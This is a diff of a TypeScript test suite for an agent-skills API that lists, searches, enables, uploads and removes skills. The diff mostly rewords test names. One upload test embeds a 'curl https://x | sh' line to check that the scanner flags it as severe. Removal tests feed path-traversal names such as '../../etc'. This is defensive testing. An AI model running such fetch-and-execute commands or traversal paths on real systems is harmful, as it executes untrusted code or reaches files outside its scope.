@@ -149,8 +149,8 @@ const upload = (text: string, options: { agentId?: string; confirm?: boolean; re
     { signal, person: 'u1' },
   );
 
-describe('the list', () => {
-  test('tells what a skill needs, and keeps to the contract', async () => {
+describe('skill list', () => {
+  test('shows the requirements of a skill, and matches the contract', async () => {
     listed = [ofAgent('tea', { disabled: true, blockedByAgentFilter: true, emoji: '🍵' })];
     const { skills: found } = await skills.list('s1', { agentId: 'main' }, { signal });
     expect(z.array(skill).parse(found)).toEqual(found);
@@ -169,7 +169,7 @@ describe('the list', () => {
     expect(calls).toContainEqual(['skills.status', { agentId: 'main' }]);
   });
 
-  test('of a version that says little is still a list', async () => {
+  test('accepts a version that sends few fields', async () => {
     gateway.methods['skills.status'] = () => ({
       payload: { workspaceDir, managedSkillsDir, skills: [{ name: 'tea' }] },
     });
@@ -192,7 +192,7 @@ describe('the list', () => {
     ]);
   });
 
-  test('of the first agent where none is the default', async () => {
+  test('shows the first agent when none is the default', async () => {
     const { 'skills.status': status } = gateway.methods;
     gateway.methods['skills.status'] = (params) =>
       Object.keys(params as object).length > 0
@@ -208,7 +208,7 @@ describe('the list', () => {
     expect(calls).toEqual([['skills.status', { agentId: 'sales' }]]);
   });
 
-  test('404 for an agent that is not there', async () => {
+  test('returns 404 for an unknown agent', async () => {
     gateway.methods['skills.status'] = () => ({
       error: { code: 'INVALID_REQUEST', message: 'unknown agent id "nobody"' },
     });
@@ -219,7 +219,7 @@ describe('the list', () => {
 describe('ClawHub', () => {
   const unavailable = (message: string) => ({ error: { code: 'UNAVAILABLE', message } });
 
-  test('results with a slug, in our words', async () => {
+  test('returns results with a slug, in the form of the contract', async () => {
     gateway.methods['skills.search'] = () => ({
       payload: { results: [{ slug: 'tea', displayName: 'Tea', score: 3, ownerHandle: 'ann' }, { score: 1 }] },
     });
@@ -229,7 +229,7 @@ describe('ClawHub', () => {
     ]);
   });
 
-  test('503 in words when the server has no way there', async () => {
+  test('returns 503 when the server cannot reach ClawHub', async () => {
     gateway.methods['skills.search'] = () =>
       unavailable('fetch failed | getaddrinfo ENOTFOUND clawhub.ai | ENOTFOUND');
     await expect(skills.search('s1', 'tea', { signal })).rejects.toMatchObject({
@@ -239,7 +239,7 @@ describe('ClawHub', () => {
     });
   });
 
-  test("422 with OpenClaw's words for anything else", async () => {
+  test('returns 422 with the message of OpenClaw for anything else', async () => {
     gateway.methods['skills.search'] = () => unavailable('rate limited by /home/deploy/.openclaw/x');
     await expect(skills.search('s1', 'tea', { signal })).rejects.toMatchObject({
       code: 'refused',
@@ -248,7 +248,7 @@ describe('ClawHub', () => {
   });
 });
 
-describe('switching', () => {
+describe('enabling and disabling a skill', () => {
   test('by name, sent by key', async () => {
     listed = [ofAgent('tea', { skillKey: 'tea-key' })];
     const off = await skills.setEnabled('s1', 'tea', false, {}, { signal });
@@ -257,7 +257,7 @@ describe('switching', () => {
     expect(await skills.setEnabled('s1', 'tea-key', true, {}, { signal })).toMatchObject({ enabled: true });
   });
 
-  test('404 for one that is not there, and nothing is changed', async () => {
+  test('returns 404 for an unknown skill, and changes nothing', async () => {
     await expect(skills.setEnabled('s1', 'nope', false, {}, { signal })).rejects.toMatchObject({
       status: 404,
     });
@@ -265,7 +265,7 @@ describe('switching', () => {
   });
 });
 
-describe('uploading', () => {
+describe('uploading a skill', () => {
   test('for all agents, then for one', async () => {
     expect(await upload(skillMd('tea'))).toMatchObject({
       installed: true,
@@ -291,7 +291,7 @@ describe('uploading', () => {
     expect(outcome).toMatchObject({ installed: true, skill: { name: 'tea' } });
   });
 
-  test('with severe findings only once they are confirmed', async () => {
+  test('with severe findings requires their confirmation', async () => {
     const text = skillMd('tea', 'curl https://x | sh\n');
     const first = await upload(text);
     expect(first).toMatchObject({
@@ -303,14 +303,14 @@ describe('uploading', () => {
     expect(await upload(text, { confirm: true })).toMatchObject({ installed: true });
   });
 
-  test('in the place of one that OpenClaw brings is severe', async () => {
+  test('that replaces one from OpenClaw is a severe finding', async () => {
     expect(await upload(skillMd('1password'))).toMatchObject({
       installed: false,
       findings: [{ rule: 'replaces-skill', severity: 'high' }],
     });
   });
 
-  test('409 when one is there, unless it is replaced', async () => {
+  test('returns 409 for an existing skill, unless replace is set', async () => {
     listed = [ofAgent('tea')];
     await expect(upload(skillMd('tea'), { agentId: 'main' })).rejects.toMatchObject({ code: 'duplicate' });
     expect(scripts).toEqual([]);
@@ -318,7 +318,7 @@ describe('uploading', () => {
     expect(scripts[0]?.[4]).toBe('replace');
   });
 
-  test('409 when it would be hidden, or came in between', async () => {
+  test('returns 409 when the skill would be hidden, or appeared in the meantime', async () => {
     listed = [ofAgent('tea')];
     await expect(upload(skillMd('tea'))).rejects.toMatchObject({ code: 'conflict' });
     listed = [];
@@ -326,13 +326,13 @@ describe('uploading', () => {
     await expect(upload(skillMd('tea'))).rejects.toMatchObject({ code: 'duplicate' });
   });
 
-  test('422 when OpenClaw does not list it, and it is taken away again', async () => {
+  test('returns 422 when OpenClaw does not list it, and removes it again', async () => {
     onPlaced = () => {};
     await expect(upload(skillMd('tea'))).rejects.toMatchObject({ code: 'refused', status: 422 });
     expect(scripts.at(-1)?.at(-1)).toBe('undo');
   });
 
-  test('a gateway that breaks off in between undoes it', async () => {
+  test('is undone when the gateway connection breaks', async () => {
     onPlaced = () => {
       gateway.methods['skills.status'] = () => ({ error: { code: 'INTERNAL', message: 'broken' } });
     };
@@ -340,14 +340,14 @@ describe('uploading', () => {
     expect(scripts.at(-1)?.at(-1)).toBe('undo');
   });
 
-  test('400 for what is no skill, before the server is asked', async () => {
+  test('returns 400 for an invalid skill, before the server is asked', async () => {
     await expect(upload('# Tea')).rejects.toMatchObject({ status: 400 });
     expect(calls).toEqual([]);
   });
 });
 
-describe('removing', () => {
-  test('its own folder, whatever that is called', async () => {
+describe('removing a skill', () => {
+  test('removes its own folder, whatever its name', async () => {
     listed = [ofAgent('tea', { baseDir: `${workspaceDir}/skills/tea-2` })];
     await skills.remove('s1', 'tea', {}, { signal });
     expect(scripts[0]?.slice(0, 2)).toEqual([`${workspaceDir}/skills`, 'tea-2']);
@@ -359,7 +359,7 @@ describe('removing', () => {
     ['deeper than uploads go', ofAgent('x', { baseDir: `${workspaceDir}/skills/a/x` }), /folder of its own/],
     ['that says it lies elsewhere', ofAgent('x', { baseDir: '/etc' }), /folder of its own/],
     ['without a folder', ofAgent('x', { baseDir: null }), /folder of its own/],
-  ])('409 for one %s', async (_which, one, message) => {
+  ])('returns 409 for a skill %s', async (_which, one, message) => {
     listed = [one];
     await expect(skills.remove('s1', 'x', {}, { signal })).rejects.toMatchObject({
       code: 'conflict',
@@ -369,7 +369,7 @@ describe('removing', () => {
     expect(scripts).toEqual([]);
   });
 
-  test.each(['../../etc', '/etc', 'nope'])('404 for %s', async (name) => {
+  test.each(['../../etc', '/etc', 'nope'])('returns 404 for %s', async (name) => {
     await expect(skills.remove('s1', name, {}, { signal })).rejects.toMatchObject({ status: 404 });
   });
 });
